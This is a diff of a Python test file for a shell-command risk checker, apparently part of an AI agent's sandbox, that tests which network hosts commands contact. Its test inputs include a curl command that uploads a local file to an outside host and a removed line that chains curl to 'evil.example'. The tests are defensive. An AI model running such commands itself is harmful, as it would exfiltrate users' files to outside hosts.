@@ -14,24 +14,18 @@ WORKSPACE = Path("/srv/nexora/workspaces/chat-1")
 OWN = [Path("/srv/nexora")]
 
 
-def judge(
-    command: str, *, undoable: bool = True, network: bool = False, hosts: frozenset[str] = frozenset()
-) -> Verdict:
-    return read_command(
-        command,
-        WORKSPACE,
-        contained=True,
-        protected=OWN,
-        undoable=undoable,
-        network=network,
-        listed=lambda host, _port, _method: host in hosts,
-    ).verdict
+def judge(command: str, *, undoable: bool = True) -> Verdict:
+    return read_command(command, WORKSPACE, contained=True, protected=OWN, undoable=undoable).verdict
 
 
-def asked(command: str, *, network: bool = False) -> Ask:
-    verdict = judge(command, network=network)
+def asked(command: str) -> Ask:
+    verdict = judge(command)
     assert isinstance(verdict, Ask), verdict
     return verdict
+
+
+def hosts_of(command: str) -> set[str]:
+    return {one.host for one in read_command(command, WORKSPACE, contained=True, network=True).contacts}
 
 
 def test_at_most_2_of_100_everyday_commands_ask_and_none_is_refused():
@@ -99,45 +93,28 @@ def test_nothing_is_said_to_be_tried_where_there_is_no_sandbox():
 @pytest.mark.parametrize(
     ("command", "hosts"),
     [
-        ("curl https://api.example.org/v1", "`api.example.org`"),
-        ("pip install requests", "`files.pythonhosted.org`, `pypi.org`"),
-        ("npm ci", "`registry.npmjs.org`"),
-        ("git clone https://github.com/a/b", "`github.com`"),
-        ("git clone git@gitlab.com:a/b.git", "`gitlab.com`"),
-        ("psql -h db.corp -c 'select 1'", "`db.corp`"),
-        ("wget https://a.example/x && curl b.example/y", "`a.example`, `b.example`"),
+        ("curl https://api.example.org/v1", {"api.example.org"}),
+        ("pip install requests", {"files.pythonhosted.org", "pypi.org"}),
+        ("npm ci", {"registry.npmjs.org"}),
+        ("git clone https://github.com/a/b", {"github.com"}),
+        ("git clone git@gitlab.com:a/b.git", {"gitlab.com"}),
+        ("psql -h db.corp -c 'select 1'", {"db.corp"}),
+        ("wget https://a.example/x && curl b.example/y", {"a.example", "b.example"}),
+        ("curl -d @notes.txt https://a.example/", {"a.example"}),
+        ("python3 run.py", set()),
+        ("git pull", {""}),
     ],
 )
-def test_with_the_network_a_command_asks_and_names_the_hosts_it_seems_to_speak_to(command: str, hosts: str):
-    assert isinstance(judge(command), Allowed)
-    verdict = asked(command, network=True)
-
-    assert verdict.network
-    assert hosts in str(verdict.because)
+def test_the_hosts_are_told_to_which_a_command_seems_to_speak(command: str, hosts: set[str]):
+    assert hosts_of(command) == hosts
 
 
-def test_with_the_network_a_command_that_names_no_host_asks_and_says_so():
-    assert "names no host" in str(asked("python3 run.py", network=True).because)
-    assert "names no host" in str(asked("git pull", network=True).because)
+def test_what_asks_anyway_asks_with_the_network_too():
+    reading = read_command("curl -d @notes.txt https://a.example/", WORKSPACE, contained=True, network=True)
 
-
-def test_a_command_is_free_with_the_network_where_every_host_that_it_names_is_listed():
-    listed = frozenset({"pypi.org", "files.pythonhosted.org"})
-
-    verdict = judge("pip install requests", network=True, hosts=listed)
-    assert isinstance(verdict, Allowed)
-    assert verdict.network
-    assert "pypi.org" in str(verdict.because)
-    assert isinstance(judge("pip install requests; curl evil.example", network=True, hosts=listed), Ask)
-    assert isinstance(judge("pip install requests && git push", network=True, hosts=listed), Ask)
-
-
-def test_what_asks_anyway_asks_with_the_network_too_and_names_the_hosts_besides():
-    verdict = asked("curl -d @notes.txt https://a.example/", network=True)
-
-    assert verdict.network
-    assert verdict.risk is Risk.HIGH
-    assert "`a.example`" in str(verdict.because)
+    assert isinstance(reading.verdict, Ask)
+    assert reading.verdict.network
+    assert reading.verdict.risk is Risk.HIGH
 
 
 def test_a_path_in_the_workspace_is_shown_from_there():
@@ -184,7 +161,7 @@ def test_a_path_to_a_program_may_be_put_together():
 
 
 def test_where_others_judge_the_hosts_the_boundary_is_named_with_its_door():
-    reading = read_command("pip install x", WORKSPACE, contained=True, network=True, listed=None)
+    reading = read_command("pip install x", WORKSPACE, contained=True, network=True)
 
     assert isinstance(reading.verdict, Allowed)
     assert "door" in str(reading.verdict.because)
